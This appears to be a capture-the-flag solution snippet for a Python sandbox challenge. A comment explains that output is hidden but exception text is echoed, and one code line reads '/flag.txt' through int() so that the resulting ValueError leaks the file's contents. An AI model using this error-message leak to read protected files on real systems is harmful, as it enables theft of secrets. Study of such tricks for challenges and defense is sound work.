# restriction: stdout hidden, only exception text echoed; idea: int() of the flag line raises ValueError quoting the flag
int(*open('/flag.txt'))
